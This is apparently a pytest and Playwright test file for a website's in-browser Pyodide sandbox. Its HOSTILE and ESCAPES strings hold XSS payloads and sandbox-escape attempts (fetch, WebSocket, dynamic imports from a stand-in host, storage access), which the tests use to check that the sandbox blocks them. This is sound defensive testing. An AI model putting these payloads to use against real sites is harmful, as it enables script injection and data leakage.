"""The Python sandbox: Pyodide on a tap, from the site itself, and nowhere else."""

import io
import json
import re
from collections.abc import Iterator
from contextlib import chdir, redirect_stdout
from hashlib import sha256
from importlib import import_module
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, Page, expect

import calculators
from rulebook.site.names import folder_of
from tests.html import attribute, one, parsed, words
from tests.site.support_host import hosted
from tests.site.support_site import EDITION, ROOT, Watch, WithoutHeaders, served, settled, visit

PYODIDE = "/runtime/pyodide."
WHEEL = "/runtime/wheels."
STARTING = 60_000


@pytest.fixture
def visited(browser: Browser, site: Path) -> Iterator[tuple[Page, Watch]]:
    """A page under watch, of a host that sends no headers; one that does serves every other test."""
    with served(site, WithoutHeaders) as address, visit(browser, address, "desktop") as (page, watch):
        yield page, watch
        assert watch.problems() == []


def test_the_snippet_gives_in_the_browser_what_it_gives_here(
    visited: tuple[Page, Watch], site: Path, tmp_path: Path
) -> None:
    """To load Python takes long: what else it shows and refuses is asked of the one that has come."""
    page, watch = visited
    settled(page, "sandbox/")
    button = page.get_by_role("button", name="Run")
    expect(button).to_be_enabled()
    assert watch.requested(PYODIDE) + watch.requested(WHEEL) == [], "nothing is loaded before the tap"

    code = page.get_by_label("Your question")
    wanted = answer_here(code.input_value(), site, tmp_path)
    assert len(wanted.splitlines()) > 1
    button.click()
    expect(button).to_be_disabled()
    expect(page.get_by_role("progressbar")).to_be_visible()
    expect(page.get_by_text(re.compile(r"Loading Python: \d+\.\d of \d+\.\d MB"))).to_be_visible(timeout=STARTING)
    shown = page.get_by_label("Output", exact=True)
    expect(shown).to_have_text(wanted, timeout=STARTING, use_inner_text=True)
    expect(page.get_by_role("progressbar")).to_be_hidden()
    assert watch.requested(WHEEL), "the wheel comes from the site"
    data = json.loads(page.locator(".sandbox").get_attribute("data-files") or "")
    came = {
        re.sub(r"\.[0-9a-f]{8}/", "/", url).split("/runtime/")[1]
        for url in watch.requested(PYODIDE) + watch.requested(WHEEL)
    }
    assert came == set(data), "all that is loaded was weighed"
    loaded = len(watch.requests)

    code.fill("import calculators\nprint(calculators.names())\nprint(1 / 0)")
    button.click()
    expect(shown).to_contain_text("ZeroDivisionError")
    expect(shown).to_contain_text("hit-odds")
    expect(button).to_be_enabled()
    code.fill("def broken(:")
    button.click()
    expect(shown).to_contain_text("SyntaxError")
    code.fill('print("again", 6 * 7, end="")')
    button.click()
    expect(shown).to_have_text("again 42")
    code.fill('print("<img src=x onerror=alert()>")')
    button.click()
    expect(shown).to_have_text("<img src=x onerror=alert()>")
    code.fill("print(answer)")
    button.click()
    expect(shown).to_contain_text("NameError")  # every run starts afresh
    expect_examples_to_show_their_tables_and_chart(page, site, tmp_path)
    expect_nothing_that_a_script_shows_to_run(page)
    assert watch.requested("elsewhere.example") == []
    expect_no_script_to_get_anywhere(page)
    expect_a_fault_to_be_said_as_one(page)
    assert watch.requests[loaded:] == [], "Python is loaded once"
    expect_stop_to_end_what_never_would(page)


def answer_here(code: str, site: Path, folder: Path) -> str:
    """Return what a script prints under CPython."""
    (folder / "mechanics.json").write_bytes((site / EDITION / "api" / "mechanics.json").read_bytes())
    said = io.StringIO()
    with chdir(folder), redirect_stdout(said), pytest.MonkeyPatch.context() as patch:
        patch.syspath_prepend(str(ROOT / "docs/assets/sandbox"))
        exec(code, sandbox().names())
    return said.getvalue()


def sandbox() -> Any:
    """Return what runs scripts in the browser."""
    with pytest.MonkeyPatch.context() as patch:
        patch.syspath_prepend(str(ROOT / "docs/assets/sandbox"))
        return import_module("sandbox")


def fault_of(code: str, names: dict[str, object]) -> dict[str, str]:
    """Return what is said of a script that raises."""
    try:
        exec(compile(code, sandbox().SCRIPT, "exec"), names)
    except Exception as error:
        fault: dict[str, str] = sandbox().fault(error)
        return fault
    raise AssertionError("nothing was raised")


def test_a_fault_begins_with_the_script_and_names_every_input_that_is_missing(mechanics: dict[str, Any]) -> None:
    fault = fault_of('calculators.run("fall", mechanics, {})', {"calculators": calculators, "mechanics": mechanics})
    assert [line.split(" is missing")[0] for line in fault["message"].splitlines()] == [
        "InputError: unit_class",
        "levels",
        "landing",
    ]
    assert fault["traceback"].splitlines()[:2] == [
        "Traceback (most recent call last):",
        '  File "your script", line 1, in <module>',
    ]


def test_a_fault_tells_of_earlier_ones_where_they_are_of_the_script() -> None:
    own = "try:\n    1 / 0\nexcept ArithmeticError as error:\n    raise ValueError from error"
    fault = fault_of(own, {})
    assert re.findall(r'File "(.*)", line (\d)', fault["traceback"]) == [("your script", "2"), ("your script", "4")]
    assert fault["message"] == "ValueError"

    def library() -> None:
        try:
            {}["key"]
        except KeyError:
            raise ValueError("of the library")  # noqa: B904 - as some libraries do

    fault = fault_of("library()", {"library": library})
    assert fault["traceback"].startswith('Traceback (most recent call last):\n  File "your script", line 1')
    assert "KeyError" not in fault["traceback"]


def test_a_script_that_cannot_be_read_is_shown_where() -> None:
    fault = fault_of("x = 1\ny = (", {})
    assert fault["traceback"].splitlines()[0] == '  File "your script", line 2'
    assert fault["message"].startswith("SyntaxError: '(' was never closed")


def run(page: Page, code: str = "") -> None:
    """Run what is in the sandbox, or some code in its place, and wait for Python to be there."""
    if code:
        page.get_by_label("Your question").fill(code)
    page.get_by_role("button", name="Run").click()
    expect(status(page)).not_to_have_text(re.compile("Loading"), timeout=STARTING)


def status(page: Page) -> Locator:
    return page.locator(".sandbox__status")


def output(page: Page) -> Locator:
    return page.get_by_label("Output", exact=True)


def shown_rows(page: Page) -> list[str]:
    return [" | ".join(row.locator("th, td").all_inner_texts()) for row in output(page).locator("tr").all()]


def expect_examples_to_show_their_tables_and_chart(page: Page, site: Path, folder: Path) -> None:
    code = page.get_by_label("Your question")
    for title, throws in (("Who can throw whom", 15), ("Best use of 12 AP", 0)):
        page.get_by_role("button", name=title).click()
        wanted = [line for line in answer_here(code.input_value(), site, folder).splitlines() if " | " in line]
        run(page)
        expect(status(page)).to_have_text("Done.")
        assert shown_rows(page) == wanted
        if throws:
            # Each of five Classes throws its own and every smaller one.
            assert len(re.findall(r"\| \d", "\n".join(wanted))) == throws
    page.get_by_role("button", name="What a ruling changes").click()
    run(page)
    chart = output(page).get_by_role("img")
    expect(chart).to_have_attribute("alt", re.compile("each reading"))
    page.wait_for_function("document.querySelector('.sandbox__chart').naturalWidth > 100")
    expect(output(page)).to_contain_text("with 60 copies")
    expect(output(page)).to_be_in_viewport()


def expect_nothing_that_a_script_shows_to_run(page: Page) -> None:
    run(page, HOSTILE)
    expect(status(page)).to_have_text("Done.")
    expect(output(page).get_by_role("img")).to_be_attached()
    expect(output(page).get_by_role("columnheader")).to_have_text(["<b>x</b>"])
    expect(output(page).get_by_role("cell")).to_have_text(["<img src=x onerror=alert()>"])
    assert output(page).locator("svg, script, b").count() == 0
    expect(output(page)).to_contain_text("kept in")


HOSTILE = """
import js
import show

show.table([{"<b>x</b>": "<img src=x onerror=alert()>"}])
show.chart('<svg xmlns="http://www.w3.org/2000/svg" onload="alert()"><script>alert()</script>'
           '<image href="https://elsewhere.example/x.png"/></svg>')
for way in (lambda: js.fetch("https://elsewhere.example/"), lambda: js.eval("1"), lambda: js.WebSocket.new("wss://elsewhere.example"),
            lambda: js.Object.constructor("return import('https://elsewhere.example/x.js')")()):
    try:
        way()
        print("got out")
        break
    except Exception:
        pass
else:
    print("kept in")
"""


def expect_a_fault_to_be_said_as_one(page: Page) -> None:
    expect(page.get_by_role("button", name="Stop")).to_be_disabled()
    run(page, "print('before')\ncalculators.run('fall', mechanics, {})")
    expect(page.get_by_role("alert")).to_contain_text(re.compile("unit_class is missing.*levels is missing", re.DOTALL))
    expect(page.get_by_role("alert")).to_be_in_viewport()
    expect(status(page)).to_have_text("Stopped by a fault.")
    expect(output(page)).to_contain_text(re.compile(r"^before\nTraceback .*\n  File \"your script\", line 2"))


def expect_stop_to_end_what_never_would(page: Page) -> None:
    stop = page.get_by_role("button", name="Stop")
    run(page, "while True:\n    pass")
    expect(page.get_by_role("alert")).to_be_hidden()
    stop.click()
    expect(status(page)).to_have_text("Stopped. The next run loads Python again.")
    expect(stop).to_be_disabled()


@pytest.mark.thorough
def test_a_script_that_shows_more_and_more_or_ends_python_leaves_a_page_that_goes_on(page: Page, watch: Watch) -> None:
    page.goto("sandbox/")
    for message in ("print('more')", "js.console.log('more')", "show.chart('<svg/>', 'more' * 100_000)"):
        run(page, f"import js\nwhile True:\n    {message}")
        expect(output(page)).to_contain_text("more than this page can show")
        page.get_by_role("button", name="Stop").click()
    run(page, "import js\njs.self.close()")
    expect(page.get_by_role("alert")).to_contain_text("A script of the sandbox cannot use close.")
    watch.expected += ["unreachable"]
    run(page, "import os\nos.abort()")
    expect(status(page)).to_contain_text("Python stopped. Tap Run to start again.")
    run(page, "print(6 * 7)")
    expect(output(page)).to_have_text("42")
    expect(status(page)).to_have_text("Done.")


# Each would reach another host, or something of the site that lasts.
ESCAPES = """
import asyncio, js, pyodide_js
from pyodide.code import run_js

scope = js.Object.getPrototypeOf(js.self.constructor).prototype
get = js.Reflect.get

async def font():
    await js.FontFace.new("x", "url(ELSEWHERE/font.woff2)").load()

async def pyfetch():
    from pyodide.http import pyfetch
    await pyfetch("ELSEWHERE/pyfetch")

async def package():
    await pyodide_js._api.loadBinaryFile("ELSEWHERE/package")

async def bucket(part):
    return get(await js.navigator.storageBuckets.open("x"), part)

async def files():
    await js.navigator.storage.getDirectory()

ways = {
    "fetch": lambda: js.fetch("ELSEWHERE/fetch"),
    "fetch of the prototype": lambda: scope.fetch.call(js.self, "ELSEWHERE/prototype"),
    "pyfetch": pyfetch,
    "package": package,
    "socket": lambda: js.WebSocket.new("wss://elsewhere.example"),
    "import by a timer": lambda: scope.setTimeout.call(js.self, "import('ELSEWHERE/timer.js')"),
    "import by a timer again": lambda: scope.setInterval.call(js.self, "import('ELSEWHERE/interval.js')", 1),
    "import by a function": lambda: js.Object.constructor("return import('ELSEWHERE/function.js')")(),
    "import by text": lambda: run_js("import('ELSEWHERE/text.js')"),
    "font": font,
    "icon": lambda: js.Notification.new("x"),
    "worker": lambda: js.Worker.new(js.location.origin + "/EDITION/assets/sandbox/worker.js"),
    "files": files,
    "files of a bucket": lambda: bucket("getDirectory"),
    "files of the browser": lambda: js.webkitRequestFileSystemSync(0, 9),
    "databases": lambda: js.indexedDB.open("x"),
    "databases of the prototype": lambda: get(scope, "indexedDB", js.self).open("x"),
    "caches": lambda: js.caches.open("x"),
    "caches of the prototype": lambda: get(scope, "caches", js.self).open("x"),
    "channel": lambda: js.BroadcastChannel.new("x"),
    "messages": lambda: js.postMessage("x"),
    "messages to itself": lambda: js.dispatchEvent(js.Event.new("message")),
}
for name, way in ways.items():
    try:
        done = way()
        if hasattr(done, "__await__"):
            await done
        print("got out:", name)
    except Exception:
        pass
await asyncio.sleep(0.2)
print("the end")
"""


def expect_no_script_to_get_anywhere(page: Page) -> None:
    with TemporaryDirectory() as folder, hosted(Path(folder)) as elsewhere:
        run(page, ESCAPES.replace("ELSEWHERE", elsewhere.address).replace("EDITION", EDITION))
        expect(status(page)).to_have_text("Done.")
        expect(output(page)).to_have_text("the end")
        assert elsewhere.asked == []


def test_a_script_that_came_by_link_waits_for_a_tap_and_says_where_it_came_from(
    page: Page, watch: Watch, phone: Page
) -> None:
    page.goto("sandbox/")
    script = 'print("5+ \N{EN DASH} <b>")\n'
    page.get_by_label("Your question").fill(script)
    page.get_by_role("button", name="Link", exact=True).click()
    expect(page.locator(".sandbox__said")).to_contain_text("link is")

    phone.goto(page.url)
    expect(phone.get_by_label("Your question")).to_have_value(script)
    expect(phone.get_by_text("This script came by a link.")).to_be_visible()
    assert watch.requested(PYODIDE) == [], "nothing runs before the tap"
    phone.get_by_role("button", name="Best use of 12 AP").click()
    expect(phone.get_by_text("This script came by a link.")).to_be_hidden()

    page.get_by_label("Your question").fill("".join(sha256(bytes([n])).hexdigest() for n in range(256)))
    page.get_by_role("button", name="Link", exact=True).click()
    expect(page.locator(".sandbox__said")).to_contain_text("too long for a link")


def test_a_broken_link_is_said_and_changes_nothing(page: Page) -> None:
    """What else is no script tests/scripts asks."""
    page.goto("sandbox/#script=AAAA")
    expect(page.locator(".sandbox__said")).to_contain_text("cannot be read")
    code = page.get_by_label("Your question")
    expect(code).to_have_value(code.evaluate("(code) => code.defaultValue"))


def test_scripts_are_kept_by_name_until_they_are_deleted(page: Page) -> None:
    page.goto("sandbox/")
    page.evaluate("localStorage.setItem('sandbox-scripts', '[1, null')")
    page.reload()
    page.get_by_label("Your question").fill("print(1)")
    page.get_by_label("Name of this script").fill("<i>Mine</i>")
    page.get_by_role("button", name="Keep", exact=True).click()
    expect(page.locator(".sandbox__said")).to_have_text("<i>Mine</i> is kept on this device.")
    page.reload()
    page.get_by_role("button", name="<i>Mine</i>", exact=True).click()
    expect(page.get_by_label("Your question")).to_have_value("print(1)")
    page.get_by_role("button", name="Delete <i>Mine</i>").click()
    page.get_by_role("button", name="Delete Scripts that cannot be read").click()
    expect(page.get_by_label("Scripts kept").get_by_role("listitem")).to_have_count(0)
    page.reload()
    expect(page.get_by_label("Scripts kept").get_by_role("listitem")).to_have_count(0)


@pytest.mark.own_context
def test_pyodide_that_cannot_load_is_reported_and_can_be_tried_again(page: Page, watch: Watch) -> None:
    watch.expected = ["pyodide", "net::ERR_FAILED"]
    page.context.route(f"**{PYODIDE}**", lambda route: route.abort())
    page.goto("sandbox/")
    page.get_by_role("button", name="Run").click()
    expect(status(page)).to_contain_text("could not be loaded")
    expect(page.get_by_role("button", name="Run")).to_be_enabled()


def test_without_scripts_the_sandbox_says_that_it_needs_them(plain: Page) -> None:
    plain.goto("sandbox/")
    expect(plain.locator("noscript p")).to_contain_text("needs JavaScript")
    expect(plain.locator("noscript p")).to_be_visible()
    expect(plain.get_by_role("button", name="Run")).to_be_disabled()


def size_of(runtime: Path, tree: str, name: str) -> int:
    return (folder_of(runtime, tree) / name).stat().st_size


def test_what_python_weighs_is_said_and_is_what_the_site_holds(site: Path) -> None:
    page = parsed(site / EDITION / "sandbox" / "index.html")
    files = json.loads(attribute(one(page, "div.sandbox"), "data-files"))
    weights = {name: size_of(site / "runtime", *name.split("/", 1)) for name in files}
    assert files == weights
    assert {Path(name).suffix for name in files} >= {".wasm", ".zip", ".whl", ".js"}
    assert f"loads {sum(weights.values()) / 1e6:.1f} MB of Python" in words(one(page, "div.sandbox"))
